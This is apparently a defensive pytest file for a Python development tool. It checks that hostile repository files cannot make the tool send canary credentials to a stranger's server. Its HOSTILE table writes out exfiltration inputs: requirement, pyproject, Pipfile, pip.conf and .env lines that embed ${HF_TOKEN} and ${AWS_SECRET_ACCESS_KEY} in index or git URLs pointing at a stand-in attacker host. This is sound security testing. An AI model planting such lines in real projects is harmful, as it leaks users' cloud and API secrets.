"""Twenty tokens of the user's, and servers that must never see one, whatever a repository's files name.

One loopback server stands for the index, the git host, the proxy and the hub of a stranger; it notes whole requests.
"""

import base64
import os
import re
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.forked_commands import run_devkit
from tests.package_server import serve_packages
from tests.wheels import make_wheel

ADA = ("--gpu", "RTX 4090", "--driver", "570.124.06")
NAMES = (
    *("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"),
    *("GITHUB_TOKEN", "GH_TOKEN", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "NGC_API_KEY", "AZURE_CLIENT_SECRET"),
    *("UV_PUBLISH_TOKEN", "UV_INDEX_CORP_PASSWORD", "UV_INDEX_OWN_PASSWORD", "PIP_PASSWORD", "DB_PASSWORD"),
)
VARIABLES = {name: f"canary{number:02}x7Qz9" for number, name in enumerate(NAMES)}
FILES = {
    ".netrc": "machine corp.example login me password canary16x7Qz9\n",
    ".git-credentials": "https://me:canary17x7Qz9@corp.example\n",
    ".cache/huggingface/token": "canary18x7Qz9",
    ".docker/config.json": '{"auths": {"corp.example": {"auth": "Y2FuYXJ5MTl4N1F6OQ=="}}}',
}
KEYRING, PROXY = "canary20x7Qz9", "canary21x7Qz9"
TOKENS = (*VARIABLES.values(), *(f"canary{number}x7Qz9" for number in range(16, 20)), KEYRING, PROXY)
PROJECT = '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = ["own"]\n'
REFERENCE = "${HF_TOKEN}/${AWS_SECRET_ACCESS_KEY}"
HOSTILE = {
    "an index with variables": {"requirements.txt": f"--extra-index-url URL/{REFERENCE}/simple\nown\n"},
    "links with variables": {"requirements.txt": f"--find-links URL/{REFERENCE}\nown\n"},
    "an included list": {"requirements.txt": "-r b/x.txt\n", "b/x.txt": f"-i URL/{REFERENCE}\nown\n"},
    "a list on a server": {"requirements.txt": f"-r URL/{REFERENCE}.txt\nown\n"},
    "a line that goes on": {"requirements.txt": f"own @ \\\n  URL/{REFERENCE}/own-1.0.tar.gz\n"},
    "a line that ends as in old files": {"requirements.txt": f"# notes\r--extra-index-url URL/{REFERENCE}\rown\n"},
    "an option in one word": {"requirements.txt": f"-iURL/{REFERENCE}/simple\nown\n"},
    "an archive": {"requirements.txt": f"own @ URL/{REFERENCE}/own-1.0.tar.gz\n"},
    "a repository": {"requirements.txt": f"own @ git+URL/{REFERENCE}.git\n-e git+URL/{REFERENCE}#egg=two\n"},
    "a table of sources": {
        "pyproject.toml": PROJECT + f'[tool.uv.sources]\nown = {{ url = "URL/{REFERENCE}.tar.gz" }}\n'
    },
    "a list of sources": {"pyproject.toml": PROJECT + f'[tool.uv.sources]\nown = [{{ git = "URL/{REFERENCE}" }}]\n'},
    "a source by another spelling": {
        "pyproject.toml": PROJECT + '[tool.uv.sources]\nOWN = [{ url = "URL/o.tar.gz" }]\n'
    },
    "an index of uv's": {"pyproject.toml": PROJECT + '[[tool.uv.index]]\nname = "corp"\nurl = "URL/simple"\n'},
    "uv.toml": {"pyproject.toml": PROJECT, "uv.toml": f'extra-index-url = ["URL/{REFERENCE}"]\n'},
    "Poetry": {
        "pyproject.toml": '[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\npython = ">=3.11"\nown = "*"\n'
        f'[[tool.poetry.source]]\nname = "corp"\nurl = "URL/{REFERENCE}/simple"\n'
    },
    "Pipenv": {"Pipfile": f'[[source]]\nname = "corp"\nurl = "URL/{REFERENCE}"\n[packages]\nown = "*"\n'},
    "conda": {"environment.yml": f"dependencies:\n- pip:\n  - --extra-index-url URL/{REFERENCE}\n  - own\n"},
    "devkit.toml": {"requirements.txt": "own\n", "devkit.toml": '[network]\nindex = "URL/simple"\nhub = "URL"\n'},
    "settings of pip": {"requirements.txt": "own\n", "pip.conf": f"[global]\nindex-url = URL/{REFERENCE}\n"},
    "a .env file": {"requirements.txt": "own\n", ".env": "UV_DEFAULT_INDEX=URL/simple\nHF_ENDPOINT=URL\n"},
}
ORDINARY = {
    "a list": {"requirements.txt": "own\n"},
    "pyproject.toml": {"pyproject.toml": PROJECT},
    "an allowed index": {"pyproject.toml": PROJECT + '[[tool.uv.index]]\nname = "corp"\nurl = "URL/simple"\n'},
    "an index that sends on": {"pyproject.toml": PROJECT + '[[tool.uv.index]]\nname = "own"\nurl = "URL/simple"\n'},
}
COMMANDS = {
    "plan": ("plan", *ADA),
    "init --dry-run": ("init", ".", *ADA, "--dry-run"),
    "init": ("init", ".", *ADA, "--yes"),
    "update --check": ("update", ".", "--check"),
    "update": ("update", ".", "--yes"),
    "doctor": ("doctor", "--project", ".", "--no-trial", "--json"),
    "init --lock-only": ("init", ".", *ADA, "--yes", "--lock-only", "python"),
    "export": ("export", "docker", ".", "--dry-run"),
}


@pytest.fixture
def servers(tmp_path):
    """A stranger's server, and the user's index."""
    folder = tmp_path / "wheels"
    folder.mkdir()
    own = [make_wheel(folder, "own", "1.0")]
    with serve_packages([]) as stranger, serve_packages(own) as index:
        yield stranger, index


def find_tokens(request: str) -> list[str]:
    """Find the tokens in a request: as they are, in an address, and in a login."""
    logins = re.findall(r"Basic ([A-Za-z0-9+/=]+)", request)
    texts = [request, *(base64.b64decode(each).decode(errors="replace") for each in logins)]
    return [token for token in TOKENS for text in texts if token in text or quote(token) in text]


def visit(tmp_path: Path, files: dict[str, str], servers, commands, **environ: str) -> tuple[list[str], list[int]]:
    """Run the commands in a repository with these files. Returns the tokens that any server got, and the exit codes."""
    stranger, index = servers
    home, project = tmp_path / "home", tmp_path / "project"
    for folder, texts in ((home, FILES), (project, files)):
        for name, text in texts.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(text.replace("URL", stranger.url).encode())
    environment = {"NO_COLOR": "1", "UV_OFFLINE": "0", "UV_DEFAULT_INDEX": index.index, "HOME": str(home)}
    environment |= {"UV_CACHE_DIR": str(tmp_path / "cache"), "XDG_DATA_HOME": "", "XDG_CONFIG_HOME": "", **VARIABLES}
    environment |= {"UV_INDEX_CORP_USERNAME": "me", "UV_INDEX_OWN_USERNAME": "me", **environ}
    codes = [run_devkit(*words, cwd=project, **environment).returncode for words in commands]
    return [token for each in (stranger, index) for request in each.requests for token in find_tokens(request)], codes


@pytest.mark.parametrize("files", HOSTILE.values(), ids=HOSTILE)
def test_a_strangers_repository_learns_no_token_and_asks_no_server(tmp_path, servers, files):
    commands = [COMMANDS["plan"], COMMANDS["init"]]
    sent, codes = visit(tmp_path, files, servers, commands)
    assert sent == []
    assert servers[0].requests == []
    assert set(codes) <= {0, 1, 2}


@pytest.mark.full
@pytest.mark.parametrize("files", HOSTILE.values(), ids=HOSTILE)
def test_no_command_sends_a_token_from_a_strangers_repository(tmp_path, servers, files):
    sent, codes = visit(tmp_path, files, servers, COMMANDS.values())
    assert sent == []
    assert servers[0].requests == []
    assert set(codes) <= {0, 1, 2}


@pytest.mark.parametrize("name", ORDINARY)
def test_an_allowed_index_gets_no_login_of_another_host(tmp_path, servers, name):
    stranger, index = servers
    if name == "an index that sends on":
        stranger.redirect = index.url
    allowed = () if name in ("a list", "pyproject.toml") else ("--allow-index", f"{stranger.url}/simple")
    sent, codes = visit(tmp_path, ORDINARY[name], servers, [(*COMMANDS["plan"], *allowed), COMMANDS["init"]])
    assert sent == []
    assert codes == [0, 0]
    assert index.requests
    assert bool(stranger.requests) is bool(allowed)


@pytest.mark.parametrize("name", ORDINARY)
def test_what_the_keyring_knows_of_an_index_goes_to_that_index_alone(tmp_path, name):
    program = tmp_path / "bin/keyring"
    program.parent.mkdir()
    login = f"me:{KEYRING}"
    with serve_packages([]) as stranger, serve_packages([make_wheel(tmp_path, "own", "1.0")], login=login) as index:
        if name == "an index that sends on":
            stranger.redirect = index.url
        # As `keyring`, which answers for any address that begins with a host that it knows.
        program.write_text(f'#!/bin/sh\ncase "$*" in *{index.url[7:]}*) echo {KEYRING} ;; *) exit 1 ;; esac\n')
        program.chmod(0o755)
        environ = {"UV_KEYRING_PROVIDER": "subprocess", "UV_DEFAULT_INDEX": index.index.replace("//", "//me@")}
        environ["PATH"] = f"{program.parent}:{os.environ['PATH']}"
        plan = (*COMMANDS["plan"], "--allow-index", f"{stranger.url}/simple")
        _, codes = visit(tmp_path, ORDINARY[name], (stranger, index), [plan], **environ)
    assert codes == [0]
    assert any(KEYRING in find_tokens(request) for request in index.requests)
    assert not any(find_tokens(request) for request in stranger.requests)
    assert {token for request in index.requests for token in find_tokens(request)} == {KEYRING}


def test_the_login_of_a_proxy_goes_to_the_proxy_alone(tmp_path, servers):
    with serve_packages([make_wheel(tmp_path, "own", "1.0")]) as proxy:
        address = proxy.url.replace("//", f"//me:{PROXY}@")
        environ = {"HTTP_PROXY": address, "http_proxy": address, "UV_DEFAULT_INDEX": "http://index.example/simple"}
        environ |= {"NO_PROXY": servers[0].url[7:].partition(":")[0]}
        plan = (*COMMANDS["plan"], "--allow-index", f"{servers[0].url}/simple")
        _, codes = visit(tmp_path, ORDINARY["an allowed index"], servers, [plan], **environ)
        assert codes == [0]
        asked = [request for request in proxy.requests if "http://index.example/simple/own" in request]
        assert asked
        assert {token for request in asked for token in find_tokens(request)} == {PROXY}
        assert servers[0].requests
        assert not any(find_tokens(request) for request in servers[0].requests)


def test_a_request_with_a_token_is_noticed():
    basic = base64.b64encode(f"me:{TOKENS[0]}".encode()).decode()
    assert find_tokens(f"GET /{TOKENS[3]}/x") == [TOKENS[3]]
    assert find_tokens(f"GET / Authorization: Basic {basic}") == [TOKENS[0]]
